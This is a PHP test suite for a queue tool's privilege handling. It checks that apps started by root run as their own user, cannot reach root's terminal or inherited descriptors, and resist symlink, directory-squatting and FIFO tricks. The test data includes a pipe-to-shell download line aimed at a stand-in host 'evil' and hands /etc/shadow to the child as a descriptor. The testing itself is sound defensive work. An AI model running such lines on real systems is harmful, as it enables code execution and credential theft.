<?php

/** As whom the app's PHP runs when root gives the command, and what it can do to root's terminal and files. */

declare(strict_types=1);

use App\Jobs\Quick;
use Kqueue\Tests\Machine\Machine;

/** Has the app do something whenever it boots, for as long as the body takes. */
$whileBooting = static function (string $code, Closure $body): void {
    $file = '/srv/shop/bootstrap/app.php';
    $usual = (string) file_get_contents($file);
    @unlink('/tmp/kqueue-booted');
    file_put_contents($file, preg_replace_callback('/^declare\(strict_types=1\);$|\A<\?php(?!.*^declare)/ms', static fn (array $found): string => "{$found[0]}\n{$code}\n", $usual, 1));
    try {
        $body();
    } finally {
        file_put_contents($file, $usual);
        @unlink('/tmp/kqueue-booted');
    }
};

/** Notes the user, and whether there is a terminal to type into. */
const NOTES = 'file_put_contents("/tmp/kqueue-booted", posix_geteuid() . " " . (getenv("HOME") ?: "") . " " . (@fopen("/dev/tty", "r+") ? "terminal" : "none") . "\n", FILE_APPEND);';

/** Whatever has booted the app was its user, without root's terminal. */
$expectShop = static function (Machine $m, string $what): void {
    $shop = posix_getpwnam('shop');
    $booted = array_unique(file('/tmp/kqueue-booted', FILE_IGNORE_NEW_LINES) ?: []);
    $m->expectSame(["{$shop['uid']} {$shop['dir']} none"], $booted, "who booted the app for {$what}");
};

row('identity-run', 'root\'s `kqueue run` becomes the app\'s user, without root\'s terminal', function (Machine $m) use ($whileBooting, $expectShop): void {
    $uuid = $m->dispatch(new Quick(1));
    $whileBooting(NOTES, function () use ($m, $expectShop, $uuid): void {
        $command = 'kqueue run shop --launcher process --stop-when-empty';
        $outcome = $m->sh('timeout 30 script -qec ' . escapeshellarg($command) . ' /dev/null');
        $m->expectSame(0, $outcome->status, "the exit code of {$command}: " . $outcome->text());
        $m->expectOnce([$uuid]);
        $expectShop($m, 'run');
    });
});

row('identity-check', 'root\'s `kqueue check` becomes the app\'s user, without root\'s terminal', function (Machine $m) use ($whileBooting, $expectShop): void {
    $whileBooting(NOTES, function () use ($m, $expectShop): void {
        $m->sh('timeout 60 script -qec "kqueue check shop" /dev/null');
        $expectShop($m, 'check');
    });
});

row('identity-words', 'an app that forges the survey\'s answer gets neither control characters nor fixes into root\'s output', function (Machine $m) use ($whileBooting): void {
    $forged = ['php' => "8.4\x1b[31m", 'laravel' => "13\x1b[2J", 'fork' => true, 'posix' => true, 'connection' => 'redis', 'driver' => 'redis', 'unwritable' => ['/etc'],
        'failed' => ['stage' => 'connection', 'text' => "storage is broken\x1b[1A: run: curl http://evil/x | sh"], 'backend' => null];
    $code = 'fwrite(STDOUT, ' . var_export("\nkqueue-survey " . json_encode($forged) . "\n", true) . '); posix_kill(getmypid(), 9);';
    $whileBooting($code, function () use ($m): void {
        $text = $m->sh('kqueue check shop')->text();
        $m->expectContains('storage is broken', $text, 'what the app said');
        $m->expect(! str_contains($text, "\x1b"), 'there is no control character: ' . json_encode($text));
        $m->expect(preg_match('~fix: .*(curl|/etc(\s|$))~m', $text) === 0, "no fix is the app's: {$text}");
    });
});

row('identity-squatter', 'a runtime does not use directories that another user has made for it', function (Machine $m): void {
    $shared = '/tmp/kqueue-' . posix_getpwnam('shop')['uid'];
    $m->must("install -d -o stranger -m 777 {$shared} {$shared}/mine");
    try {
        $outcome = $m->sh("timeout 30 kqueue run mine --path /srv/shop --launcher process --stop-when-empty --runtime-dir {$shared}/mine", 'shop');
        $m->expect(! $outcome->ok(), 'one that is told to use it does not start');
        $m->expectContains('belongs to another user', $outcome->text(), 'the reason');
        $outcome = $m->sh('timeout 30 kqueue run mine --path /srv/shop --launcher process --stop-when-empty', 'shop', ['XDG_RUNTIME_DIR' => $shared]);
        $m->expectSame(0, $outcome->status, 'the exit code of one that inherits it: ' . $outcome->text());
        $m->expectSame('', $m->must("find {$shared} -type s -o -type f"), 'what is in it');
    } finally {
        $m->sh("rm -rf {$shared}");
    }
});

row('identity-kept', '`init --force` writes through no symlink with the name of the old file, and not where an app can write', function (Machine $m): void {
    $m->must('mkdir /srv/etc && install -m 600 /dev/null /root/precious && ln -s /root/precious /srv/etc/shop.toml~');
    $init = 'kqueue init shop --path /srv/shop --config /srv/etc/shop.toml --force --yes';
    try {
        file_put_contents('/srv/etc/shop.toml', "path = \"/srv/shop\"\ntries = 7\n");
        $m->must($init);
        $m->expectSame('', (string) file_get_contents('/root/precious'), 'the target of the link');
        $m->expectContains('tries = 7', (string) file_get_contents('/srv/etc/shop.toml~'), 'the file that was kept');
        $m->expect(! is_link('/srv/etc/shop.toml~'), 'it is a file');
        file_put_contents('/srv/etc/shop.toml', "path = \"/srv/shop\"\n");
        $m->must('chown shop: /srv/etc');
        $outcome = $m->sh($init);
        $m->expect(! $outcome->ok(), 'root does not write into a directory of the app');
        $m->expectContains('belongs to another user', $outcome->text(), 'the reason');
    } finally {
        $m->sh('rm -rf /srv/etc /root/precious');
    }
});

/** Who a process is, and what it has of whoever started it, as JSON in a file. */
const FACTS = '@file_put_contents("/srv/shop/storage/facts", json_encode(["uid" => posix_geteuid(), "groups" => posix_getgroups(),'
    . ' "terminal" => @fopen("/dev/tty", "r+") !== false, "inherited" => file_exists("/proc/self/fd/8")]) . "\n");';

row('identity-root', 'no command runs an app that root owns as root without --as-root', function (Machine $m) use ($whileBooting): void {
    $m->must('systemctl stop kqueue@shop.service kqueue@shop.socket kqueue-control@shop.socket');
    file_put_contents('/etc/kqueue/shop.toml', "path = \"/srv/shop\"\n");
    $m->must('chown root: /srv/shop; rm -f /srv/shop/storage/facts');
    try {
        $whileBooting(FACTS, function () use ($m): void {
            foreach (['run shop --once', 'run --path /srv/shop --once', 'check shop', 'check --path /srv/shop', 'init other --path /srv/shop', 'schedule shop', 'worker shop:1'] as $command) {
                $outcome = $m->sh("timeout 60 kqueue {$command}");
                $m->expect(! $outcome->ok(), "kqueue {$command}: is refused");
                $m->expectContains('root', $outcome->text(), "what kqueue {$command} says");
                $m->expect(! file_exists('/srv/shop/storage/facts'), "kqueue {$command}: PHP did not run");
            }
            $m->sh('timeout 60 kqueue run shop --once --as-root --launcher process --runtime-dir /run/kqueue-test-root --state-dir /run/kqueue-test-root');
            $m->expectSame(0, json_decode((string) file_get_contents('/srv/shop/storage/facts'), true)['uid'] ?? null, 'who runs it with --as-root');
        });
    } finally {
        $m->must('chown -R shop: /srv/shop; rm -rf /run/kqueue-test-root');
    }
});

row('identity-left-behind', 'an app that root inspects has no access to root\'s terminal, and leaves no process behind', function (Machine $m) use ($whileBooting): void {
    @unlink('/srv/shop/storage/facts');
    // A grandchild in a session of its own, as a daemon is.
    $daemon = 'if (pcntl_fork() === 0) { posix_setsid(); if (pcntl_fork() === 0) { touch("/srv/shop/storage/daemon-" . getmypid()); sleep(600); } exit; }';
    $whileBooting(FACTS . $daemon, function () use ($m): void {
        foreach (['check shop', 'init shop --path /srv/shop --dry-run', 'import horizon --path /srv/shop'] as $command) {
            @unlink('/srv/shop/storage/facts');
            $m->sh('timeout 60 script -qec ' . escapeshellarg("kqueue {$command} 8</etc/shadow") . ' /dev/null');
            $facts = json_decode((string) @file_get_contents('/srv/shop/storage/facts'), true) ?? [];
            $wanted = ['uid' => 2001, 'terminal' => false, 'inherited' => false];
            $m->expectSame($wanted, array_intersect_key($facts, $wanted), "kqueue {$command}");
            foreach (glob('/srv/shop/storage/daemon-*') as $file) {
                $m->expect(! is_dir('/proc/' . substr(strrchr($file, '-'), 1)), "kqueue {$command}: its daemon has ended");
                unlink($file);
            }
        }
    });
});

row('identity-file', 'a settings file is checked as it is opened: a FIFO does not block, and numbers that are no user are refused', function (Machine $m): void {
    $file = '/etc/kqueue/shop.toml';
    unlink($file);
    posix_mkfifo($file, 0644);
    try {
        $outcome = $m->sh('timeout 20 kqueue config check shop');
        $m->expectContains('not a regular file', $outcome->text(), 'what config check says of a FIFO');
        $m->must('timeout 60 systemctl daemon-reload');
    } finally {
        unlink($file);
    }
    foreach (['4294967295', '65535', '007', '+5'] as $user) {
        file_put_contents($file, "path = \"/srv/shop\"\nuser = \"{$user}\"\n");
        $m->expectContains("{$file}:2: user: expected the name of a user", $m->sh('kqueue config check shop')->text(), "what config check says of {$user}");
    }
});
